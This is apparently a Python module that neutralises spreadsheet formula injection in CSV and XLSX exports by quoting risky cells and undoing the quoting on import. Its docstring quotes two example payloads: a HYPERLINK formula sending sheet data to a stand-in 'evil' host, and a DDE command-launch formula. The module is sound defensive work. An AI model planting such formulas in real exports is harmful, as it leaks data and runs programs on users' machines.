"""Every cell SalesRelay writes into a CSV file or a workbook, made safe for the person who opens it.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, after trimming, a
tab or a carriage return) as a formula: a client named ``=HYPERLINK("http://evil/?"&A1)`` would
send the sheet away, ``=cmd|'/C calc'!A0`` starts a program. So every writer of the product (the
interchange export, the payroll and the simulation in CSV and XLSX) builds its rows here:

>>> columns = Columns(("name", "amount", "paid_on"), {"amount": MONEY})
>>> columns.csv_row(["=1+2", Decimal("-1500"), date(2026, 3, 1)])
["'=1+2", '-1500.00', '2026-03-01']

How text is neutralised, and why it still round-trips:

- **CSV**: a text cell that could start a formula gets a single quote in front, the OWASP way
  (``'=1+2``); a number is a number (``-1500.00`` stays as it is: a negative amount is not text).
  The interchange export is read back by ``salesrelay import``, so the reader undoes exactly
  this (:func:`undo_neutralise`); to make the pair lossless a text that already starts with
  quotes before such a character gets one quote more (``'=x`` is written ``''=x``).
- **XLSX**: text is always a text cell (never a formula, whatever it starts with) and a risky one
  carries Excel's own "quote prefix" flag, which is what Excel stores when a person types
  ``'=1+2``: it shows ``=1+2`` and keeps it text when edited. The value itself is unchanged, so the
  workbook needs no undoing.
- Numbers are numeric cells with a number format (``#,##0.00`` for money), dates are date cells
  (``yyyy-mm-dd``); in CSV numbers are plain decimals, never ``1E+1``.
"""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from datetime import date
from decimal import Decimal
from typing import Any

MONEY = "#,##0.00"
"""Money: two decimals, thousands grouped (the cell keeps the exact number)."""
RATIO = "0.00"
"""A multiple, such as pay against the market salary."""
NUMBER = "General"
"""Any other number: quantities, weights, rates, counts."""
DATE = "yyyy-mm-dd"

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_RISKY = re.compile(r"^'*[=+\-@\t\r]")
_NEUTRALISED = re.compile(r"^'+[=+\-@\t\r]")


def is_risky(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula (or it already carries the quote
    that :func:`undo_neutralise` would take away)."""
    return _RISKY.match(text) is not None


def neutralise(text: str) -> str:
    """``text`` as a CSV cell no spreadsheet runs.

    >>> neutralise("=SUM(A1:A9)"), neutralise("-2+3"), neutralise("ACME"), neutralise("'=x")
    ("'=SUM(A1:A9)", "'-2+3", 'ACME', "''=x")
    """
    return f"'{text}" if is_risky(text) else text


def undo_neutralise(text: str) -> str:
    """What :func:`neutralise` was given: the importer reads a CSV cell through this.

    >>> undo_neutralise("'=SUM(A1:A9)"), undo_neutralise("''=x"), undo_neutralise("'quoted'")
    ('=SUM(A1:A9)', "'=x", "'quoted'")
    """
    return text[1:] if _NEUTRALISED.match(text) else text


def csv_cell(value: Any, number_format: str = NUMBER) -> str:
    """One value as CSV text: text neutralised, money with two decimals, other numbers in plain
    decimal notation, dates ``YYYY-MM-DD``, nothing as the empty string."""
    if value is None:
        return ""
    if isinstance(value, str):
        return neutralise(value)
    if isinstance(value, bool):
        return "1" if value else "0"
    if isinstance(value, Decimal):
        if number_format in (MONEY, RATIO):
            return f"{value:.2f}"
        return f"{value.normalize():f}"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, date):
        return value.isoformat()
    return neutralise(str(value))


def xlsx_cell(sheet, value: Any, number_format: str = NUMBER):
    """One value as a workbook cell of ``sheet`` (a worksheet, write-only or not)."""
    from openpyxl.cell import WriteOnlyCell

    if value is None:
        return None
    if isinstance(value, bool):
        value = int(value)
    if isinstance(value, Decimal | int | float | date):
        # Set after creation: a cell takes a Decimal or a date (WriteOnlyCell's stub says less).
        cell = WriteOnlyCell(sheet)
        cell.value = value
        cell.number_format = DATE if isinstance(value, date) else number_format
        return cell
    text = value if isinstance(value, str) else str(value)
    cell = WriteOnlyCell(sheet, text)
    cell.data_type = "s"  # openpyxl would take a text starting with "=" for a formula
    if is_risky(text):
        cell.quotePrefix = True
    return cell


class Columns:
    """A header and the number format of its numeric columns; every row of a file goes through
    :meth:`csv_row` or :meth:`xlsx_row`."""

    def __init__(self, names: Sequence[str], formats: Mapping[str, str] | None = None) -> None:
        formats = formats or {}
        unknown = set(formats) - set(names)
        if unknown:
            raise ValueError(f"number formats for unknown columns: {sorted(unknown)}")
        self.names = tuple(names)
        self._formats = [formats.get(name, NUMBER) for name in self.names]

    def csv_header(self) -> list[str]:
        return [neutralise(name) for name in self.names]

    def csv_row(self, values: Sequence[Any]) -> list[str]:
        return [csv_cell(value, fmt) for value, fmt in zip(values, self._formats, strict=True)]

    def append_header(self, sheet) -> None:
        sheet.append([xlsx_cell(sheet, name) for name in self.names])

    def xlsx_row(self, sheet, values: Sequence[Any]) -> list[Any]:
        return [xlsx_cell(sheet, value, fmt) for value, fmt in zip(values, self._formats, strict=True)]

    def append(self, sheet, values: Sequence[Any]) -> None:
        sheet.append(self.xlsx_row(sheet, values))
